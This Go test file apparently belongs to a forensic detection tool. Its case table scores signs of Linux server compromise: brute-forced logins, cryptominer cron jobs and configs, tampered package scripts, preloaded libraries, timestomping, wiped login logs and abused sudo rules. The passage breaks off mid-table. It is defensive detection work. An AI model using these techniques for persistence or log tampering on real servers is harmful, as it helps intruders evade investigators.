package detect

import (
	"fmt"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"icecore/forensics/filesystem"
	"icecore/forensics/message"
	"icecore/forensics/model"
)

var noon = time.Date(2026, 1, 12, 12, 0, 0, 0, time.UTC)

// at adds times to a record: what, minutes from noon.
func at(r model.Record, stamps ...any) model.Record {
	for i := 0; i < len(stamps); i += 2 {
		r.Times = append(r.Times, model.Stamp{What: stamps[i].(string), Time: noon.Add(time.Duration(stamps[i+1].(int)) * time.Minute)})
	}
	return r
}

// scene is what an analysis looks at.
type scene struct {
	records  []model.Record
	files    map[string]*FileFact
	snapshot int // minutes from noon
	// installed is the one path that is as its package installed it.
	installed string
	times     []FileTimes // of all files of the server
}

// ours are the built-in rules, compiled once.
var ours = sync.OnceValues(func() (*Rules, error) { return Load(Options{}) })

func (s *scene) run(t *testing.T) *Result {
	t.Helper()
	r, err := ours()
	if err != nil {
		t.Fatal(err)
	}
	recs := slices.Clone(s.records)
	for i := range recs {
		recs[i].ID = fmt.Sprintf("R-%06d", i+1)
	}
	var files func(func(*FileTimes) bool)
	if s.times != nil {
		files = func(yield func(*FileTimes) bool) {
			for i := range s.times {
				if !yield(&s.times[i]) {
					return
				}
			}
		}
	}
	res, err := r.Run(t.Context(), &Input{
		Files: files, Owner: func(_, p string) (string, bool) {
			if p == s.installed {
				return "owner", true
			}
			return "", true
		},
		Records: recs, SnapshotTime: noon.Add(time.Duration(s.snapshot) * time.Minute),
		Lookup:    func(_, p string) *FileFact { return s.files[p] },
		Installed: func(_, p string) bool { return p != "" && p == s.installed },
	})
	if err != nil {
		t.Fatal(err)
	}
	return complete(res)
}

// complete gives findings their sentences, as the border does.
func complete(res *Result) *Result {
	a := model.Analysis{Findings: res.Findings, Story: res.Story}
	message.English().Complete(&a)
	return res
}

// level gives the level at which an analysis speaks; None if it does not.
func level(res *Result, rule string) Level {
	l := None
	for _, f := range res.Findings {
		if f.Rule == rule || slices.ContainsFunc(f.Details, func(m model.Message) bool { return m.ID == "finding.also" && m.Param("rule") == rule }) {
			l = max(l, f.Level)
		}
	}
	return l
}

// inode puts a record on an inode, and modified makes a file that was modified at a minute.
func inode(r model.Record, n uint64) model.Record { r.Source.Inode = n; return r }

func modified(p string, minute int) map[string]*FileFact {
	f := program(p, 0o644, "")
	f.Inode.Mtime = filesystem.Unix(noon.Add(time.Duration(minute)*time.Minute).Unix(), 0)
	return map[string]*FileFact{p: f}
}

// without takes a property out of the text of a record.
func without(record, change string) string {
	name, _, _ := strings.Cut(change, "=")
	kind, fields, _ := strings.Cut(record, " ")
	var out []string
	for _, f := range strings.Split(fields, "; ") {
		if n, _, _ := strings.Cut(f, "="); n != name {
			out = append(out, f)
		}
	}
	return kind + " " + strings.Join(out, "; ")
}

// judged is a program that nobody brought, with where it stands and among what.
func judged(p, place string, c Company) *FileFact {
	ff := program(p, 0o755, "")
	ff.Place, ff.Type, ff.Company = place, "elf", c
	return ff
}

func program(p string, mode uint16, owner string) *FileFact {
	return &FileFact{Path: p, Known: true, Owner: owner, Inode: &filesystem.Inode{Ref: filesystem.Ref{Inode: 77}, Mode: filesystem.ModeRegular | mode}}
}

func TestAnalyses(t *testing.T) {
	rec := func(s string, stamps ...any) model.Record { return at(record(t, s), stamps...) }
	failed := func(address string, count, minute int) model.Record {
		return rec(fmt.Sprintf("auth.failures address=%s; count=%d; users=root; user_count=1", address, count), "first", minute, "last", minute+10)
	}
	login := func(address, method string, minute int) model.Record {
		return rec("auth.login method="+method+"; user=root; address="+address+"; path=/var/log/auth.log", "logged", minute)
	}
	var spread, few []model.Record
	for i := range 30 {
		spread = append(spread, failed(fmt.Sprintf("192.0.2.%d", i+1), 2, -30))
		few = append(few, failed(fmt.Sprintf("192.0.2.%d", i%3+1), 2, -30+i/20))
	}
	miner := rec("yara.match rule=XMRig_Binary; level=critical; technique=T1496.001; file_type=elf; path=/opt/a", "created", 0)
	packagedMiner := record(t, "yara.match rule=XMRig_Binary; level=critical; technique=T1496.001; file_type=elf; owner=xmrig; package_state=intact; path=/opt/a")
	job := "cron.job command=/opt/a; programs=/opt/a; path=/etc/cron.d/a"
	list := func(minute int) model.Record {
		return rec("package.list package=openssh-server; path=/var/lib/dpkg/info/openssh-server.list", "changed", minute)
	}
	script := "package.script package=openssh-server; script=postinst; notable=nohup; path=/var/lib/dpkg/info/openssh-server.postinst"
	stomped := "file.notable what=old_mtime; file_type=elf; place=temp; path=/tmp/a"
	log := func(s string, stamps ...any) model.Record { return rec("log.coverage "+s, stamps...) }
	nowhere := func(n int) []model.Record {
		var out []model.Record
		for i := range n {
			out = append(out, record(t, fmt.Sprintf("hosts.entry address=0.0.0.0; names=ad%d.example; nowhere=yes; path=/etc/hosts", i)))
		}
		return append(out, record(t, "hosts.entry address=0.0.0.0; names=pool.supportxmr.com; nowhere=yes; path=/etc/hosts"))
	}
	config := "miner.config pool=203.0.113.77:3333; wallet=4A; coin=monero; path=/opt/c.json"

	for _, tt := range []struct {
		name, rule string
		scene      scene
		want       Level
	}{
		// A login after its password was guessed.
		{"640 failures, then a password", "guessed_password", scene{records: []model.Record{failed("203.0.113.77", 640, -60), login("203.0.113.77", "password", 0)}}, Critical},
		{"20 failures, then a password", "guessed_password", scene{records: []model.Record{failed("203.0.113.77", 20, -60), login("203.0.113.77", "password", 0)}}, High},
		{"3 failures, then a password", "guessed_password", scene{records: []model.Record{failed("203.0.113.77", 3, -60), login("203.0.113.77", "password", 0)}}, None},
		{"failures, then a key", "guessed_password", scene{records: []model.Record{failed("203.0.113.77", 640, -60), login("203.0.113.77", "publickey", 0)}}, Medium},
		{"failures of another address", "guessed_password", scene{records: []model.Record{failed("203.0.113.78", 640, -60), login("203.0.113.77", "password", 0)}}, None},
		{"failures two days before", "guessed_password", scene{records: []model.Record{failed("203.0.113.77", 640, -3000), login("203.0.113.77", "password", 0)}}, None},
		{"failures behind the login", "guessed_password", scene{records: []model.Record{failed("203.0.113.77", 640, 5), login("203.0.113.77", "password", 0)}}, None},
		{"an address that had logged in before", "guessed_password", scene{records: []model.Record{login("203.0.113.77", "password", -5000), failed("203.0.113.77", 640, -60), login("203.0.113.77", "password", 0)}}, Medium},
		// The same, shared among many addresses.
		{"30 addresses guess, another logs in", "guessed_password_spread", scene{records: append(slices.Clone(spread), login("203.0.113.77", "password", 0))}, Medium},
		{"30 addresses guess, a key logs in", "guessed_password_spread", scene{records: append(slices.Clone(spread), login("203.0.113.77", "publickey", 0))}, None},
		{"3 addresses guess", "guessed_password_spread", scene{records: append(slices.Clone(few), login("203.0.113.77", "password", 0))}, None},
		{"30 addresses guessed two hours before", "guessed_password_spread", scene{records: append(slices.Clone(spread), login("203.0.113.77", "password", 120))}, None},
		// Guessing without a login.
		{"guessing under way", "guessing", scene{records: []model.Record{failed("203.0.113.77", 640, -30)}}, Low},
		{"guessing, long over", "guessing", scene{records: []model.Record{failed("203.0.113.77", 640, -30)}, snapshot: 600}, Low},
		{"a few failures", "guessing", scene{records: []model.Record{failed("203.0.113.77", 9, -30)}}, None},
		// Logins by keys, and shells of services; see TestLogins, too.
		{"a key that stands nowhere", "login_key_gone", scene{records: []model.Record{keyLine(t, "SHA256:a", -9000), byPrint(t, "root", "192.0.2.1", "SHA256:a", -50), byPrint(t, "root", "203.0.113.9", "SHA256:gone", 0)}}, Medium},
		{"a key that stands", "login_key_gone", scene{records: []model.Record{keyLine(t, "SHA256:a", -9000), byPrint(t, "root", "192.0.2.1", "SHA256:a", -50)}}, None},
		{"a key used at once", "login_key_new", scene{records: []model.Record{keyLine(t, "SHA256:a", -1), byPrint(t, "root", "203.0.113.9", "SHA256:a", 0)}}, Medium},
		{"a key used the next day", "login_key_new", scene{records: []model.Record{keyLine(t, "SHA256:a", -1500), byPrint(t, "root", "203.0.113.9", "SHA256:a", 0)}}, None},
		{"www-data becomes root", "service_root_shell", scene{records: []model.Record{at(record(t, "auth.sudo user=www-data; as=root; command=/usr/bin/bash"), "logged", 0)}}, Medium},
		{"www-data reloads the web server", "service_root_shell", scene{records: []model.Record{at(record(t, "auth.sudo user=www-data; as=root; command=/usr/sbin/nginx -s reload"), "logged", 0)}}, None},
		{"wtmp is older than its last entry", "log_touched", scene{records: []model.Record{at(inode(record(t, "log.coverage entries=9; path=/var/log/wtmp"), 77), "first", -900, "last", 0)}, files: modified("/var/log/wtmp", -300)}, Medium},
		{"wtmp was written last with its last entry", "log_touched", scene{records: []model.Record{at(inode(record(t, "log.coverage entries=9; path=/var/log/wtmp"), 77), "first", -900, "last", 0)}, files: modified("/var/log/wtmp", 1)}, None},
		// Autostart entries that launch a miner.
		{"a job starts a miner", "starts_miner", scene{records: []model.Record{miner, record(t, job)}}, Critical},
		{"a job starts a packaged miner", "starts_miner", scene{records: []model.Record{packagedMiner, record(t, job)}}, None},
		{"a job starts something else", "starts_miner", scene{records: []model.Record{miner, with(t, job, "programs=/opt/b")}}, None},
		{"the log proves that it ran", "starts_miner", scene{records: []model.Record{miner, with(t, job, "kind=cron.run")}}, None},
		// Configurations of miners.
		{"pool and wallet", "miner_configuration", scene{records: []model.Record{record(t, config)}}, High},
		{"a sample's placeholder", "miner_configuration", scene{records: []model.Record{record(t, "miner.config program=xmrig; found_in=configuration; pool=donate.v2.xmrig.com:3333; user=YOUR_WALLET_ADDRESS; file_type=text; path=/srv/src/config.json")}}, Low},
		{"a user of a private proxy", "miner_configuration", scene{records: []model.Record{record(t, "miner.config program=xmrig; found_in=configuration; pool=203.0.113.77:3333; user=w1; file_type=text; path=/srv/src/config.json")}}, Medium},
		{"pool alone", "miner_configuration", scene{records: []model.Record{with(t, config, "wallet=")}}, Informational},
		{"command in a note", "miner_configuration", scene{records: []model.Record{record(t, "miner.config pool=203.0.113.77:3333; wallet=w; found_in=command; file_type=text; path=/root/notes")}}, Low},
		{"command in base64", "miner_configuration", scene{records: []model.Record{record(t, "miner.config pool=203.0.113.77:3333; wallet=w; found_in=command; encoding=base64; file_type=text; path=/opt/x")}}, Medium},
		{"wallet alone", "miner_configuration", scene{records: []model.Record{record(t, "miner.config wallet=w; found_in=text; file_type=elf; path=/opt/x")}}, None},
		{"pool in a program", "miner_configuration", scene{records: []model.Record{record(t, "miner.config pool=203.0.113.77:3333; file_type=elf; path=/opt/a")}}, Medium},
		// Maintainer scripts.
		{"modified, and holds what none should", "package_script", scene{records: []model.Record{list(0), at(record(t, script), "changed", 60)}}, High},
		{"as it was installed, and holds what none should", "package_script", scene{records: []model.Record{list(0), at(record(t, script), "changed", 1)}}, Medium},
		{"as it was installed, and does what few do", "package_script", scene{records: []model.Record{list(0), at(with(t, script, "notable=ld.so.preload,preload_write"), "changed", 1)}}, Low},
		{"as it was installed, and has a temporary file", "package_script", scene{records: []model.Record{list(0), at(with(t, script, "notable=temp_path"), "changed", 1)}}, Low},
		{"as it was installed, and sets attributes of its queue", "package_script", scene{records: []model.Record{list(0), at(with(t, script, "notable=chattr"), "changed", 1)}}, Low},
		{"modified, and sets attributes", "package_script", scene{records: []model.Record{list(0), at(with(t, script, "notable=chattr"), "changed", 60)}}, High},
		{"modified, and does what few do", "package_script", scene{records: []model.Record{list(0), at(with(t, script, "notable=ld.so.preload,preload_write"), "changed", 60)}}, High},
		{"as it was installed, and does what few and what none do", "package_script", scene{records: []model.Record{list(0), at(with(t, script, "notable=base64,pipe"), "changed", 1)}}, Medium},
		{"as it was installed, and fetches", "package_script", scene{records: []model.Record{list(0), at(with(t, script, "notable=base64,fetch"), "changed", 1)}}, Low},
		{"newer", "package_script", scene{records: []model.Record{list(0), at(with(t, script, "notable="), "changed", 60)}}, Low},
		{"as it was installed", "package_script", scene{records: []model.Record{list(0), at(with(t, script, "notable="), "changed", 1)}}, None},
		{"as it was installed, and starts a miner", "package_script", scene{records: []model.Record{miner, list(0), at(with(t, without(script, "notable="), "programs=/opt/a"), "changed", 1)}}, Critical},
		{"as it was installed, and starts an unowned program among data", "package_script", scene{records: []model.Record{list(0), at(with(t, without(script, "notable="), "programs=/usr/share/x/a"), "changed", 1)}, files: map[string]*FileFact{"/usr/share/x/a": judged("/usr/share/x/a", PlaceData, Company{})}}, Medium},
		{"as it was installed, and starts a packaged program", "package_script", scene{records: []model.Record{list(0), at(with(t, without(script, "notable="), "programs=/usr/bin/a"), "changed", 1)}, files: map[string]*FileFact{"/usr/bin/a": program("/usr/bin/a", 0o755, "a")}}, None},
		{"starts a miner", "package_script", scene{records: []model.Record{miner, list(0), at(with(t, script, "programs=/opt/a"), "changed", 60)}}, Critical},
		// Preloaded libraries.
		{"unowned library", "preload_unowned", scene{records: []model.Record{record(t, "preload.library library=/usr/local/lib/a.so")}, files: map[string]*FileFact{"/usr/local/lib/a.so": program("/usr/local/lib/a.so", 0o644, "")}}, High},
		{"a vendor's library", "preload_unowned", scene{records: []model.Record{record(t, "preload.library library=/opt/a/b/l.so")}, files: map[string]*FileFact{"/opt/a/b/l.so": program("/opt/a/b/l.so", 0o644, "")}}, Low},
		{"an allocator built by hand", "preload_unowned", scene{records: []model.Record{record(t, "preload.library library=/usr/local/lib/libjemalloc.so.2")}, files: map[string]*FileFact{"/usr/local/lib/libjemalloc.so.2": program("/usr/local/lib/libjemalloc.so.2", 0o644, "")}}, Low},
		{"an owned library by the linker's variables", "preload_unowned", scene{records: []model.Record{record(t, "preload.library library=/usr/lib/arm/libarmmem-${PLATFORM}.so")}, files: map[string]*FileFact{"/usr/lib/arm/libarmmem-v7l.so": program("/usr/lib/arm/libarmmem-v7l.so", 0o644, "a")}}, Informational},
		{"an unowned library by the linker's variables", "preload_unowned", scene{records: []model.Record{record(t, "preload.library library=/$LIB/libx.so")}, files: map[string]*FileFact{"/usr/lib64/libx.so": program("/usr/lib64/libx.so", 0o644, "")}}, High},
		{"an unowned library by its bare name", "preload_unowned", scene{records: []model.Record{record(t, "preload.library library=libcext.so.2")}, files: map[string]*FileFact{"/lib/libcext.so.2": program("/lib/libcext.so.2", 0o644, "")}}, High},
		{"owned library", "preload_unowned", scene{records: []model.Record{record(t, "preload.library library=/usr/local/lib/a.so")}, files: map[string]*FileFact{"/usr/local/lib/a.so": program("/usr/local/lib/a.so", 0o644, "a")}}, Informational},
		// Unowned programs in directories of packages.
		{"unowned program", "unowned_program_started", scene{records: []model.Record{record(t, "systemd.exec command=/usr/sbin/a; programs=/usr/sbin/a")}, files: map[string]*FileFact{"/usr/sbin/a": program("/usr/sbin/a", 0o755, "")}}, Low},
		{"unowned program by a unit and a job", "unowned_program_started", scene{records: []model.Record{record(t, "systemd.exec command=/usr/sbin/a; programs=/usr/sbin/a"), record(t, "cron.job command=/usr/sbin/a; programs=/usr/sbin/a")}, files: map[string]*FileFact{"/usr/sbin/a": program("/usr/sbin/a", 0o755, "")}}, Medium},
		{"unowned program by a unit and its init script", "unowned_program_started", scene{records: []model.Record{record(t, "systemd.exec command=/usr/sbin/a; programs=/usr/sbin/a"), record(t, "init.script programs=/usr/sbin/a")}, files: map[string]*FileFact{"/usr/sbin/a": program("/usr/sbin/a", 0o755, "")}}, Low},
		{"unowned program under a name of systemd", "unowned_program_started", scene{records: []model.Record{record(t, "systemd.exec command=x; programs=/usr/bin/systemd-workerd")}, files: map[string]*FileFact{"/usr/bin/systemd-workerd": program("/usr/bin/systemd-workerd", 0o755, "")}}, Medium},
		{"unowned program by an event", "unowned_program_started", scene{records: []model.Record{record(t, "hook.script event=motd; programs=/usr/sbin/a")}, files: map[string]*FileFact{"/usr/sbin/a": program("/usr/sbin/a", 0o755, "")}}, Medium},
		{"unowned program of a rolled name", "unowned_program_started", scene{records: []model.Record{record(t, "init.script programs=/usr/bin/qwhzvbnrta")}, files: map[string]*FileFact{"/usr/bin/qwhzvbnrta": program("/usr/bin/qwhzvbnrta", 0o755, "")}}, Medium},
		{"unowned program that looks like another", "unowned_program_started", scene{records: []model.Record{record(t, "systemd.exec command=x; programs=/usr/sbin/a")}, files: map[string]*FileFact{"/usr/sbin/a": judged("/usr/sbin/a", PlacePrograms, Company{LookAlike: "b"})}}, Medium},
		{"unowned program alone in a directory", "unowned_program_started", scene{records: []model.Record{record(t, "systemd.exec command=x; programs=/usr/lib/x/a")}, files: map[string]*FileFact{"/usr/lib/x/a": judged("/usr/lib/x/a", PlacePrograms, Company{Alone: true})}}, Medium},
		{"unowned program among data", "unowned_program_started", scene{records: []model.Record{record(t, "cron.job command=x; programs=/usr/share/x/a")}, files: map[string]*FileFact{"/usr/share/x/a": judged("/usr/share/x/a", PlaceData, Company{})}}, Medium},
		{"a tree among data", "unowned_program_started", scene{records: []model.Record{record(t, "cron.job command=x; programs=/var/lib/x/a")}, files: map[string]*FileFact{"/var/lib/x/a": judged("/var/lib/x/a", PlaceData, Company{Tree: true})}}, None},
		{"a vendor's program", "unowned_program_started", scene{records: []model.Record{record(t, "cron.job command=x; programs=/opt/x/a")}, files: map[string]*FileFact{"/opt/x/a": judged("/opt/x/a", PlaceLocal, Company{})}}, None},
		{"under the name of a kernel thread", "unowned_program_started", scene{records: []model.Record{record(t, "systemd.exec command=@/usr/sbin/a [kworker/0:1-events]; programs=/usr/sbin/a")}, files: map[string]*FileFact{"/usr/sbin/a": program("/usr/sbin/a", 0o755, "")}}, Medium},
		{"owned program", "unowned_program_started", scene{records: []model.Record{record(t, "systemd.exec command=/usr/sbin/a; programs=/usr/sbin/a")}, files: map[string]*FileFact{"/usr/sbin/a": program("/usr/sbin/a", 0o755, "a")}}, None},
		{"unowned program in /usr/local", "unowned_program_started", scene{records: []model.Record{record(t, "systemd.exec command=/usr/local/sbin/a; programs=/usr/local/sbin/a")}, files: map[string]*FileFact{"/usr/local/sbin/a": program("/usr/local/sbin/a", 0o755, "")}}, None},
		{"unowned plugin of a monitor", "unowned_program_started", scene{records: []model.Record{record(t, "cron.job command=x; programs=/usr/lib/nagios/plugins/a")}, files: map[string]*FileFact{"/usr/lib/nagios/plugins/a": program("/usr/lib/nagios/plugins/a", 0o755, "")}}, None},
		{"unowned program of sshd", "unowned_program_started", scene{records: []model.Record{record(t, "sshd.option option=AuthorizedKeysCommand; value=/usr/lib/a; programs=/usr/lib/a")}, files: map[string]*FileFact{"/usr/lib/a": program("/usr/lib/a", 0o755, "")}}, Medium},
		{"owned program of sshd", "unowned_program_started", scene{records: []model.Record{record(t, "sshd.option option=AuthorizedKeysCommand; value=/usr/lib/a; programs=/usr/lib/a")}, files: map[string]*FileFact{"/usr/lib/a": program("/usr/lib/a", 0o755, "a")}}, None},
		{"unowned program of a key", "unowned_program_started", scene{records: []model.Record{record(t, "ssh.key type=ssh-rsa; programs=/usr/lib/a")}, files: map[string]*FileFact{"/usr/lib/a": program("/usr/lib/a", 0o755, "")}}, Medium},
		{"unowned program in a history", "unowned_program_started", scene{records: []model.Record{record(t, "history.command command=/usr/lib/a; programs=/usr/lib/a")}, files: map[string]*FileFact{"/usr/lib/a": program("/usr/lib/a", 0o755, "")}}, None},
		{"unowned program by its name alone", "unowned_program_started", scene{records: []model.Record{record(t, "cron.job command=updated; programs=updated")}, files: map[string]*FileFact{"/usr/bin/updated": program("/usr/bin/updated", 0o755, "")}}, Low},
		{"owned program by its name alone", "unowned_program_started", scene{records: []model.Record{record(t, "cron.job command=updated; programs=updated")}, files: map[string]*FileFact{"/usr/bin/updated": program("/usr/bin/updated", 0o755, "a")}}, None},
		{"unowned generator", "unowned_program_started", scene{records: []model.Record{record(t, "systemd.generator name=a; interpreter=ELF; path=/usr/local/lib/systemd/system-generators/a")}, files: map[string]*FileFact{"/usr/local/lib/systemd/system-generators/a": program("/usr/local/lib/systemd/system-generators/a", 0o755, "")}}, Medium},
		{"owned generator", "unowned_program_started", scene{records: []model.Record{record(t, "systemd.generator name=a; interpreter=ELF; path=/usr/lib/systemd/system-generators/a")}, files: map[string]*FileFact{"/usr/lib/systemd/system-generators/a": program("/usr/lib/systemd/system-generators/a", 0o755, "systemd")}}, None},
		{"what cannot be executed", "unowned_program_started", scene{records: []model.Record{record(t, "systemd.exec command=/usr/sbin/a; programs=/usr/sbin/a")}, files: map[string]*FileFact{"/usr/sbin/a": program("/usr/sbin/a", 0o644, "")}}, None},
		// Programs among data.
		{"a program among data", "program_among_data", scene{records: []model.Record{record(t, "file.notable what=data_elf; file_type=elf; path=/var/lib/x/a")}}, Low},
		{"one that cron starts", "program_among_data", scene{records: []model.Record{record(t, "file.notable what=data_elf; file_type=elf; path=/var/lib/x/a"), record(t, "cron.job command=/var/lib/x/a; programs=/var/lib/x/a")}}, Medium},
		{"a file of another kind", "program_among_data", scene{records: []model.Record{record(t, "file.notable what=temp_library; file_type=elf; path=/var/lib/x/a")}}, None},
		// Times set back.
		{"in a temporary directory", "time_set_back", scene{records: []model.Record{record(t, stomped)}}, Medium},
		{"in a directory of the system", "time_set_back", scene{records: []model.Record{with(t, stomped, "place=system")}}, Low},
		{"a program that cron starts", "time_set_back", scene{records: []model.Record{record(t, stomped), record(t, "cron.job command=/tmp/a; programs=/tmp/a")}}, High},
		{"a file of another kind", "time_set_back", scene{records: []model.Record{with(t, stomped, "what=temp_elf")}}, None},
		// Emptied logs.
		{"emptied", "log_emptied", scene{records: []model.Record{log("empty=yes; path=/var/log/auth.log", "created", 0, "modified", 600)}}, Medium},
		{"made empty", "log_emptied", scene{records: []model.Record{log("empty=yes; path=/var/log/auth.log", "created", 0, "modified", 0)}}, None},
		{"rotated", "log_emptied", scene{records: []model.Record{log("empty=yes; path=/var/log/auth.log", "created", 0, "modified", 600), log("path=/var/log/auth.log.1", "first", -10000, "last", 0)}}, None},
		{"rotated by date", "log_emptied", scene{records: []model.Record{log("empty=yes; path=/var/log/secure", "created", 0, "modified", 600), log("path=/var/log/secure-20260111.gz", "first", -10000, "last", 0)}}, None},
		{"its rotated part deleted", "log_emptied", scene{records: []model.Record{log("empty=yes; path=/var/log/auth.log", "created", 0, "modified", 0), log("path=/var/log/auth.log.1; state=deleted", "first", -10000, "last", 0)}}, Medium},
		{"btmp alone", "log_emptied", scene{records: []model.Record{log("empty=yes; path=/var/log/btmp", "created", 0, "modified", 600)}}, None},
		{"begins late, others do not", "log_emptied", scene{records: []model.Record{log("path=/var/log/auth.log", "created", -9000, "first", 0), log("path=/var/log/cron.log", "first", -9000)}}, Medium},
		{"begins late, as others do", "log_emptied", scene{records: []model.Record{log("path=/var/log/auth.log", "created", -9000, "first", 0), log("path=/var/log/cron.log", "first", 0)}}, None},
		{"begins where the rotated part ends", "log_emptied", scene{records: []model.Record{log("path=/var/log/auth.log", "created", -9000, "first", 0), log("path=/var/log/cron.log", "first", -90000), log("path=/var/log/auth.log.1", "first", -20000, "last", -9001)}}, None},
		// Overwritten logins.
		{"zeros in the middle", "login_records_zeroed", scene{records: []model.Record{log("zeroed=1; path=/var/log/wtmp")}}, Medium},
		{"zeros at the end", "login_records_zeroed", scene{records: []model.Record{log("zero_tail=1; path=/var/log/wtmp")}}, None},
		{"zeros of lastlog", "login_records_zeroed", scene{records: []model.Record{log("zeroed=1; path=/var/log/lastlog")}}, None},
		{"rows of wtmpdb missing", "login_records_deleted", scene{records: []model.Record{log("deleted_rows=2; path=/var/lib/wtmpdb/wtmp.db")}}, Medium},
		{"rows of wtmpdb, all there", "login_records_deleted", scene{records: []model.Record{log("entries=2; path=/var/lib/wtmpdb/wtmp.db")}}, None},
		// Sinkholed names.
		{"a pool", "hosts_nowhere", scene{records: nowhere(0)}, Medium},
		{"a pool in a block list", "hosts_nowhere", scene{records: nowhere(60)}, Low},
		{"updates", "hosts_nowhere", scene{records: []model.Record{record(t, "hosts.entry address=127.0.0.1; names=security.debian.org; nowhere=yes; path=/etc/hosts")}}, Medium},
		{"an advertiser", "hosts_nowhere", scene{records: []model.Record{record(t, "hosts.entry address=127.0.0.1; names=ads.example; nowhere=yes; path=/etc/hosts")}}, None},
		{"a mirror that is somewhere", "hosts_nowhere", scene{records: []model.Record{record(t, "hosts.entry address=192.0.2.9; names=deb.debian.org; path=/etc/hosts")}}, None},
		// Settings.
		{"huge pages without watchdog", "tuned_for_mining", scene{records: []model.Record{record(t, "kernel.setting name=vm.nr_hugepages; value=1280"), record(t, "kernel.setting name=kernel.nmi_watchdog; value=0")}}, Low},
		{"huge pages with watchdog", "tuned_for_mining", scene{records: []model.Record{record(t, "kernel.setting name=vm.nr_hugepages; value=1280"), record(t, "kernel.setting name=kernel.nmi_watchdog; value=1")}}, None},
		{"huge pages and msr", "tuned_for_mining", scene{records: []model.Record{record(t, "kernel.setting name=vm.nr_hugepages; value=1280"), record(t, "kernel.module module=msr")}}, Low},
		{"no watchdog", "tuned_for_mining", scene{records: []model.Record{record(t, "kernel.setting name=kernel.nmi_watchdog; value=0")}}, None},
		// Accounts of daemons.
		{"a daemon with a password", "daemon_password", scene{records: []model.Record{record(t, "account.shadow name=games; password=set")}}, Medium},
		{"a daemon without", "daemon_password", scene{records: []model.Record{record(t, "account.shadow name=games; password=locked")}}, None},
		{"a person with a password", "daemon_password", scene{records: []model.Record{record(t, "account.shadow name=deploy; password=set")}}, None},
		// Directories of the linker.
		{"a library in place of the system's", "library_shadowed", scene{records: []model.Record{record(t, "library.path directory=/usr/lib/compat; shadows=libcrypto.so.3")}, files: map[string]*FileFact{"/usr/lib/compat/libcrypto.so.3": program("/usr/lib/compat/libcrypto.so.3", 0o644, "")}}, Low},
		{"a package's", "library_shadowed", scene{records: []model.Record{record(t, "library.path directory=/usr/lib/compat; shadows=libcrypto.so.3")}, files: map[string]*FileFact{"/usr/lib/compat/libcrypto.so.3": program("/usr/lib/compat/libcrypto.so.3", 0o644, "compat-openssl")}}, None},
		{"OpenSSL built by hand", "library_shadowed", scene{records: []model.Record{record(t, "library.path directory=/usr/local/ssl/lib; shadows=libcrypto.so.3")}, files: map[string]*FileFact{"/usr/local/ssl/lib/libcrypto.so.3": program("/usr/local/ssl/lib/libcrypto.so.3", 0o644, "")}}, None},
		// Sudo rules of services, whatever they are called by.
		{"a service by name", "sudo_daemon_user", scene{records: []model.Record{record(t, "sudo.rule who=www-data; nopasswd=yes; commands=ALL")}}, Medium},
		{"a service by number", "sudo_daemon_user", scene{records: []model.Record{record(t, "account.user name=www-data; uid=33; shell=/usr/sbin/nologin"), record(t, "sudo.rule who=#0033; nopasswd=yes; commands=ALL")}}, Medium},
		{"a service of the site", "sudo_daemon_user", scene{records: []model.Record{record(t, "account.user name=tomcat; uid=996; shell=/usr/sbin/nologin"), record(t, "sudo.rule who=tomcat; nopasswd=yes; commands=ALL")}}, Medium},
		{"a service within an alias", "sudo_daemon_user", scene{records: []model.Record{record(t, "sudo.alias type=User; name=WEB; members=ana,www-data"), record(t, "sudo.rule who=WEB; nopasswd=yes; commands=ALL")}}, Medium},
		{"the group of a service", "sudo_daemon_user", scene{records: []model.Record{record(t, "sudo.rule who=%www-data; nopasswd=yes; commands=/bin/bash")}}, Medium},
		{"a service that logs in: a runner", "sudo_daemon_user", scene{records: []model.Record{record(t, "account.user name=gitlab-runner; uid=998; shell=/bin/bash"), record(t, "sudo.rule who=gitlab-runner; nopasswd=yes; commands=ALL")}}, None},
		{"a person by number", "sudo_daemon_user", scene{records: []model.Record{record(t, "account.user name=ana; uid=1000; shell=/bin/bash"), record(t, "sudo.rule who=#1000; nopasswd=yes; commands=ALL")}}, None},
		{"a service with one command", "sudo_daemon_user", scene{records: []model.Record{record(t, "sudo.rule who=www-data; nopasswd=yes; commands=/usr/bin/systemctl reload nginx")}}, None},
		{"a rule that sudo does not read", "sudo_daemon_user", scene{records: []model.Record{record(t, "sudo.rule who=www-data; nopasswd=yes; commands=ALL; ignored=x")}}, None},
		{"a service with a password to give", "sudo_daemon_user", scene{records: []model.Record{record(t, "sudo.rule who=www-data; commands=ALL")}}, None},
		// Accounts that are not what they look like.
		{"a name like root", "account_unusual", scene{records: []model.Record{record(t, "account.user name=root; uid=0; shell=/bin/bash"), record(t, "account.user name=r00t; uid=1005; shell=/bin/bash")}}, Medium},
		{"a blank behind a name", "account_unusual", scene{records: []model.Record{record(t, "account.user name=deploy ; uid=1005; shell=/bin/bash")}}, Medium},
		{"a blank behind a shell", "account_unusual", scene{records: []model.Record{record(t, "account.user name=man; uid=6; shell=/usr/sbin/nologin ")}}, Medium},
		{"a home in /var/tmp", "account_unusual", scene{records: []model.Record{record(t, "account.user name=sshd2; uid=1003; home=/var/tmp; shell=/bin/bash")}}, Low},
		{"a home in /var/tmp, no shell", "account_unusual", scene{records: []model.Record{record(t, "account.user name=cache; uid=103; home=/var/tmp; shell=/usr/sbin/nologin")}}, None},
		{"a shell for games", "account_unusual", scene{records: []model.Record{record(t, "account.user name=www-data; uid=33; shell=/usr/sbin/nologin"), record(t, "account.user name=man; uid=6; shell=/usr/sbin/nologin"), record(t, "account.user name=games; uid=5; shell=/bin/bash")}}, Low},
		{"a shell for all services: an old distribution", "account_unusual", scene{records: []model.Record{record(t, "account.user name=www-data; uid=33; shell=/bin/sh"), record(t, "account.user name=man; uid=6; shell=/bin/sh"), record(t, "account.user name=games; uid=5; shell=/bin/sh")}}, None},
		{"a shell for PostgreSQL, as packaged", "account_unusual", scene{records: []model.Record{record(t, "account.user name=postgres; uid=105; home=/var/lib/postgresql; shell=/bin/bash"), record(t, "account.user name=www-data; uid=33; shell=/usr/sbin/nologin")}}, None},
		{"people with names alike", "account_unusual", scene{records: []model.Record{record(t, "account.user name=ann1; uid=1001; shell=/bin/bash"), record(t, "account.user name=annl; uid=1002; shell=/bin/bash")}}, None},
		{"the copy before the last change", "account_unusual", scene{records: []model.Record{record(t, "account.user name=games ; uid=5; shell=/bin/bash; backup=yes")}}, None},
		// The intruder's addresses.
